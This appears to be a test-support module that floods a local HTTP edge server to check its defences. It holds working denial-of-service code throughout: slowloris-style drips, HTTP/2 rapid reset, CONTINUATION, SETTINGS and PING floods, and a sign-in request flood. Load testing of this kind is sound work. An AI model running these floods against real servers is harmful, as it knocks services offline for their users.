"""Attacks on an edge at loopback, each bounded in time: `python -m tests.support.attacks rapid_reset 127.0.0.1:8080 3`.

An attack runs in a process of its own, so that what an honest client feels is the edge's doing and not ours. It prints
one line of JSON when it ends: what it sent and what became of it. Frames are written by hand (RFC 9113), since no
well-behaved library sends them.
"""

from __future__ import annotations

import asyncio
import contextlib
import ipaddress
import json
import os
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable

IDLE = 1_000
LORIS = 200
FLOODERS = 4
PATIENCE = 20
"""How many times its time a flood goes on at most, where a busy machine lets too little through to be cut."""
SOURCE = ("127.0.0.2", 0)
"""Where an attack comes from: an address of its own, as it would have, with a limit of its own."""
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_DATA, _HEADERS, _RESET, _SETTINGS, _PING, _CONTINUATION = 0, 1, 3, 4, 6, 9
_END_STREAM, _END_HEADERS = 1, 4

Attack = Callable[[str, int, float, Counter[str]], Awaitable[None]]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    """Return one HTTP/2 frame."""
    return len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload


def literal(name: bytes, value: bytes) -> bytes:
    """Return one header, without an index and without compression."""
    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value


def headers(path: bytes = b"/v1/prices") -> bytes:
    """Return the headers of a GET."""
    named = {b":method": b"GET", b":scheme": b"http", b":authority": b"edge", b":path": path}
    return b"".join(literal(name, value) for name, value in named.items())


async def idle(host: str, port: int, seconds: float, seen: Counter[str]) -> None:
    """Open connections and say nothing."""
    held = []
    for _ in range(IDLE):
        with contextlib.suppress(OSError):
            held.append((await asyncio.open_connection(host, port, local_addr=SOURCE))[1])
    seen["opened"] = len(held)
    await asyncio.sleep(seconds)
    seen["open at the end"] = sum(not writer.is_closing() for writer in held)
    for writer in held:
        writer.close()


async def slow_headers(host: str, port: int, seconds: float, seen: Counter[str]) -> None:
    """Begin requests and never end them, a byte at a time."""
    await _drip(host, port, seconds, seen, b"GET /v1/prices HTTP/1.1\r\nhost: edge\r\nx-slow: ")


async def slow_body(host: str, port: int, seconds: float, seen: Counter[str]) -> None:
    """Announce bodies and send them a byte at a time."""
    begun = b"POST /v1/quotes HTTP/1.1\r\nhost: edge\r\ncontent-type: application/json\r\ncontent-length: 60000\r\n\r\n"
    await _drip(host, port, seconds, seen, begun)


async def _drip(host: str, port: int, seconds: float, seen: Counter[str], begun: bytes) -> None:
    async def one() -> None:
        try:
            reader, writer = await asyncio.open_connection(host, port, local_addr=SOURCE)
            seen["opened"] += 1
            writer.write(begun)
            answer = asyncio.create_task(reader.read(100))
            end = time.monotonic() + seconds
            while time.monotonic() < end and not answer.done():
                writer.write(b" ")
                await asyncio.wait((answer,), timeout=0.5)
            if answer.done():
                seen[(answer.result().split(b" ")[1:2] or [b"closed"])[0].decode()] += 1
            else:
                answer.cancel()
                seen["still open"] += 1
            writer.close()
        except OSError:
            seen["refused"] += 1

    await asyncio.gather(*(one() for _ in range(LORIS)))


async def sign_ins(host: str, port: int, seconds: float, seen: Counter[str]) -> None:
    """Ask for challenges as fast as they are answered, each for another address."""
    end = time.monotonic() + seconds

    async def one() -> None:
        while time.monotonic() < end:
            try:
                await until_cut()
            except (OSError, asyncio.IncompleteReadError):
                seen["cut"] += 1

    async def until_cut() -> None:
        reader, writer = await asyncio.open_connection(host, port, local_addr=SOURCE)
        while time.monotonic() < end:
            body = json.dumps({"address": f"0x{os.urandom(20).hex()}", "chain_id": 1}).encode()
            head = f"POST /v1/auth/challenges HTTP/1.1\r\nhost: edge\r\ncontent-length: {len(body)}\r\n"
            writer.write(head.encode() + b"content-type: application/json\r\n\r\n" + body)
            answer = await reader.readuntil(b"\r\n\r\n")
            seen[answer.split(b" ")[1].decode()] += 1
            (length,) = (line for line in answer.lower().split(b"\r\n") if line.startswith(b"content-length:"))
            await reader.readexactly(int(length.split(b":")[1]))
        writer.close()

    await asyncio.gather(*(one() for _ in range(FLOODERS)))


async def rapid_reset(host: str, port: int, seconds: float, seen: Counter[str]) -> None:
    """Begin streams and reset them at once (CVE-2023-44487)."""

    def burst(first: int) -> bytes:
        streams = range(first, first + 200, 2)
        return b"".join(
            frame(_HEADERS, _END_HEADERS | _END_STREAM, one, headers()) + frame(_RESET, 0, one, (8).to_bytes(4, "big"))
            for one in streams
        )

    await _flood(host, port, seconds, seen, burst, "streams", 100)


async def continuation(host: str, port: int, seconds: float, seen: Counter[str]) -> None:
    """Begin headers that never end (CVE-2024-27316)."""

    def burst(first: int) -> bytes:
        begun = frame(_HEADERS, 0, 1, headers()) if first == 1 else b""
        return begun + frame(_CONTINUATION, 0, 1, literal(b"x-more", b"a" * 100)) * 100

    await _flood(host, port, seconds, seen, burst, "frames", 100)


async def settings(host: str, port: int, seconds: float, seen: Counter[str]) -> None:
    """Ask for acknowledgements without end (CVE-2019-9515)."""
    await _flood(host, port, seconds, seen, lambda _: frame(_SETTINGS, 0, 0) * 200, "frames", 200)


async def pings(host: str, port: int, seconds: float, seen: Counter[str]) -> None:
    """The same with pings (CVE-2019-9512)."""
    await _flood(host, port, seconds, seen, lambda _: frame(_PING, 0, 0, bytes(8)) * 200, "frames", 200)


async def _flood(
    host: str, port: int, seconds: float, seen: Counter[str], burst: Callable[[int], bytes], what: str, count: int
) -> None:
    """Send bursts as fast as they are taken, on a new connection whenever one is cut; go on until one was."""
    began = time.monotonic()

    def goes_on() -> bool:
        took = time.monotonic() - began
        return took < seconds or (not seen["cut"] and took < seconds * PATIENCE)

    async def one() -> None:
        while goes_on():
            try:
                await until_cut()
            except OSError:
                seen["cut"] += 1
            await asyncio.sleep(0.01)

    async def until_cut() -> None:
        reader, writer = await asyncio.open_connection(host, port, local_addr=SOURCE)
        seen["connections"] += 1
        writer.write(PREFACE + frame(_SETTINGS, 0, 0))
        gone = asyncio.create_task(reader.read(-1))
        first = 1
        try:
            while goes_on() and not gone.done() and first < 2**30:
                writer.write(burst(first))
                seen[what] += count
                first += 2 * count
                await writer.drain()
                await asyncio.sleep(0)
            seen["cut"] += gone.done()
        finally:
            gone.cancel()
            await asyncio.gather(gone, return_exceptions=True)
            writer.close()

    await asyncio.gather(*(one() for _ in range(FLOODERS)))


ATTACKS: dict[str, Attack] = {
    "idle": idle,
    "slow_headers": slow_headers,
    "slow_body": slow_body,
    "rapid_reset": rapid_reset,
    "continuation": continuation,
    "settings": settings,
    "pings": pings,
    "sign_ins": sign_ins,
}


async def main(name: str, address: str, seconds: float, *, leftover: bool) -> None:
    """Attack, and print what became of it; with `leftover`, with the processor's time that nobody else wants alone."""
    host, _, port = address.rpartition(":")
    assert ipaddress.ip_address(host).is_loopback, "an attack goes to this machine alone"
    assert 0 < seconds <= 120
    os.nice(5)
    if leftover:  # an attacker has a machine of its own: of this one it takes what nobody else wants
        os.sched_setscheduler(0, os.SCHED_IDLE, os.sched_param(0))
    seen: Counter[str] = Counter()
    await ATTACKS[name](host, int(port), seconds, seen)
    print(json.dumps(seen))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], float(sys.argv[3]), leftover="leftover" in sys.argv[4:]))
